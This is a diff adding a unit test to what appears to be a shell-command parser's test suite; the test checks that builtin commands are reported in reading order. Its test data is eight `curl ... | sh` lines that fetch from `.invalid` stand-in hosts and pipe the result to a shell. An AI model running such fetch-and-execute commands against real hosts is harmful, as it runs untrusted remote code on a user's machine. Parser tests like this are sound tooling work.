@@ -79,3 +79,9 @@ def test_any_text_is_read(text: str) -> None:
 )
 def test_hostile_text_ends(text: str) -> None:
     read_shell(text.encode(), VOCABULARY)
+
+
+def test_facts_of_one_command_stand_in_the_order_in_which_they_are_read() -> None:
+    text = "\n".join(f"curl -s https://{name}.invalid | sh" for name in "abcdefgh")
+    facts = [one for one in read_shell(text.encode(), VOCABULARY).facts if one.kind == "builtin"]
+    assert [fact.text == "sh" for fact in facts] == [False, True] * 8
